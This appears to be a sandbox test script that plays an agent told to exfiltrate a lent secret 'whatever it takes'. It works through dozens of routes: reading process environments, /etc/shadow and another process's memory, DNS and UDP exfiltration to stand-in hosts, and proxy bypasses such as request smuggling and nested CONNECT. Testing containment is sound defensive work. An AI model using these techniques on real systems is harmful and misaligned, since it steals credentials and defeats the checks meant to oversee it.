// An agent that was told to get a lent secret out, whatever it takes. Runs inside a sandbox. What each way yields goes to
// standard output and into /workspace, for the test to search.
import { createHash } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { Resolver, resolve4 } from 'node:dns/promises'
import { openSync, readdirSync, readFileSync, readSync, writeFileSync } from 'node:fs'
import net from 'node:net'
import tls from 'node:tls'
import zlib from 'node:zlib'

const { KEY, API, OTHER, UNLISTED } = process.env
const key = { 'X-Key': KEY }
const read = (path) => readFileSync(path).toString('latin1')
const every = (folder, file) =>
  readdirSync(folder)
    .filter((name) => /^\d+$/.test(name))
    .map((name) => {
      try {
        return read(`${folder}/${name}/${file}`)
      } catch (error) {
        return error.code
      }
    })
    .join('\n')
const get = async (path, init = {}, host = API) => {
  const response = await fetch(`https://${host}${path}`, { ...init, headers: { ...key, ...init.headers } })
  return `${response.status} ${response.statusText} ${JSON.stringify([...response.headers])} ${await response.text()}`
}

/** Bytes to the proxy, and all that comes back within two seconds of silence. */
const raw = (text, socket = net.connect(3128, '127.0.0.1')) =>
  new Promise((resolve) => {
    let heard = ''
    socket.setTimeout(2000, () => socket.destroy())
    socket.on('data', (chunk) => {
      heard += chunk.toString('latin1')
    })
    socket.on('error', (error) => {
      heard += error.code
    })
    socket.on('close', () => resolve(heard))
    socket.write(text, 'latin1')
  })

/** Bytes inside a tunnel that was opened to one host and greets another. */
const inside = (text, { host = API, serverName = API } = {}) =>
  new Promise((resolve) => {
    const socket = net.connect(3128, '127.0.0.1')
    socket.on('error', (error) => resolve(error.code))
    socket.once('data', (answer) => {
      if (!String(answer).includes(' 200 ')) return resolve(String(answer))
      const options = { socket, servername: serverName, rejectUnauthorized: false }
      const secured = tls.connect(options, () => resolve(raw(text, secured)))
      secured.on('error', (error) => resolve(error.code))
    })
    socket.write(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
  })
const request = (line, headers = [], body = '') =>
  [line, ...headers, `X-Key: ${KEY}`, 'Connection: close', '', body].join('\r\n')

const reflections = [
  'plain',
  'base64',
  'base64-1',
  'base64-2',
  'base64url',
  'hex',
  'HEX',
  'percent',
  'form',
  'reversed',
  'json',
  'html',
  'bytewise',
  'gzip',
  'br',
  'deflate',
  'zstd',
  'header',
  'cookie',
  'status',
  'trailer',
  'location',
  'hints',
  'events',
  'error',
]
const searched = [
  '/proc/self/environ',
  '/proc/1/environ',
  '/proc/1/cmdline',
  '/proc/net/unix',
  '/etc/shadow',
  '/opt/keyward/ca.pem',
  '/opt/keyward/guest.mjs',
  '/proc/self/mountinfo',
]

const ways = {
  'its own environment': () => JSON.stringify(process.env),
  ...Object.fromEntries(searched.map((path) => [path, () => read(path)])),
  'environments of all': () => every('/proc', 'environ'),
  'command lines of all': () => every('/proc', 'cmdline'),
  'memory of the guest': () => {
    const guest = readdirSync('/proc').find(
      (pid) =>
        /^\d+$/.test(pid) && every(`/proc`, 'comm') && read(`/proc/${pid}/cmdline`).includes('guest.mjs'),
    )
    const memory = openSync(`/proc/${guest}/mem`)
    const found = []
    for (const line of read(`/proc/${guest}/maps`).split('\n')) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? []
      if (from === undefined) continue
      const part = Buffer.alloc(Math.min(1 << 20, Number(BigInt(`0x${to}`) - BigInt(`0x${from}`))))
      try {
        readSync(memory, part, 0, part.length, BigInt(`0x${from}`))
        found.push(part.toString('latin1').replace(/[^ -~]+/g, '\n'))
      } catch {
        // Not every part that is mapped can be read.
      }
      if (found.length > 40) break
    }
    return found.join('\n')
  },
  ...Object.fromEntries(reflections.map((form) => [`reflected as ${form}`, () => get(`/reflect/${form}`)])),
  'reflected in ranges': async () => {
    const parts = []
    for (let at = 0; at < 40; at += 4)
      parts.push(await get('/ranges', { headers: { Range: `bytes=${at}-${at + 3}` } }))
    return parts.join('')
  },
  'reflected by HEAD': () => get('/reflect/header', { method: 'HEAD' }),
  'stored and fetched later': async () => `${await get('/store', { method: 'PUT' })} ${await get('/stored')}`,
  'to another listed host, in a header': () => get('/take', {}, OTHER),
  'to another listed host, in the path': () => get(`/take/${KEY}`, {}, OTHER),
  'to another listed host, in the body': () => get('/take', { method: 'POST', body: KEY }, OTHER),
  'after a redirect': () => get('/redirect'),
  'to a host that is not listed': () => get('/take', {}, UNLISTED),
  'as a label of a name': () =>
    get('/', {}, `${createHash('sha256').update(KEY).digest('hex').slice(0, 32)}.${API}`),
  'by DNS': () => resolve4(`${KEY.slice(4)}.${UNLISTED}`).catch((error) => error.code),
  'by a resolver of its own': () => {
    const resolver = new Resolver({ timeout: 500, tries: 1 })
    resolver.setServers(['192.0.2.53'])
    return resolver.resolveTxt(`${KEY.slice(4)}.${UNLISTED}`).catch((error) => error.code)
  },
  'by UDP': () =>
    new Promise((resolve) =>
      createSocket('udp4').send(KEY, 53, '192.0.2.53', (error) => resolve(error?.code ?? 'sent')),
    ),
  'by TCP without the proxy': () => raw(KEY, net.connect(443, '192.0.2.1')),
  'by plain HTTP': () =>
    raw(`GET http://${API}/reflect/plain HTTP/1.1\r\nHost: ${API}\r\nX-Key: ${KEY}\r\n\r\n`),
  'by a tunnel without TLS': () =>
    raw(
      `CONNECT ${API}:443 HTTP/1.1\r\nHost: ${API}\r\n\r\nGET /reflect/plain HTTP/1.1\r\nX-Key: ${KEY}\r\n\r\n`,
    ),
  'by another port': () => raw(`CONNECT ${API}:80 HTTP/1.1\r\nHost: ${API}\r\n\r\n`),
  'by another server name': () =>
    inside(request('GET /reflect/plain HTTP/1.1', [`Host: ${API}`]), { serverName: OTHER }),
  'by another Host': () => inside(request('GET /take HTTP/1.1', [`Host: ${OTHER}`])),
  'by two Hosts': () => inside(request('GET /take HTTP/1.1', [`Host: ${API}`, `Host: ${OTHER}`])),
  'by the absolute form': () => inside(request(`GET https://${OTHER}/take HTTP/1.1`, [`Host: ${API}`])),
  'by a nested CONNECT': () => inside(request(`CONNECT ${OTHER}:443 HTTP/1.1`, [`Host: ${OTHER}:443`])),
  'by a smuggled request': () =>
    inside(
      request(
        'POST / HTTP/1.1',
        [`Host: ${API}`, 'Content-Length: 4', 'Transfer-Encoding: chunked'],
        '0\r\n\r\nGET /take',
      ),
    ),
  'as the name of a header': () =>
    inside(['GET /reflect/plain HTTP/1.1', `Host: ${API}`, `${KEY}: x`, '', ''].join('\r\n')),
  'in a compressed body': () =>
    get('/body', { method: 'POST', body: zlib.gzipSync(KEY), headers: { 'Content-Encoding': 'gzip' } }),
  'in a trailer': () =>
    inside(
      `POST /body HTTP/1.1\r\nHost: ${API}\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\n\r\n0\r\nX-Key: ${KEY}\r\n\r\n`,
    ),
  'by an upgrade': () => inside(request('GET /reflect/plain HTTP/1.1', [`Host: ${API}`, 'Upgrade: h2c'])),
  'printed in pieces of its placeholder': () => [...KEY].join(' '),
}

const names = Object.keys(ways)
/** One that gets no answer is given up. */
const impatient = (trying) =>
  Promise.race([trying, new Promise((resolve) => setTimeout(resolve, 8000, 'no answer'))])

for (const [index, name] of names.entries()) {
  const yielded = await impatient(Promise.resolve().then(ways[name])).catch(
    (error) => `${error.name} ${error.cause?.code ?? error.code ?? error.message}`,
  )
  writeFileSync(`/workspace/loot-${index}`, `${name}\n${yielded}`, 'latin1')
  if (!name.startsWith('memory')) process.stdout.write(`${name}: ${yielded.slice(0, 4000)}\n`)
}
// Connections that are kept for a next request would keep it alive.
process.stdout.write(`tried ${names.length} ways\n`, () => process.exit())
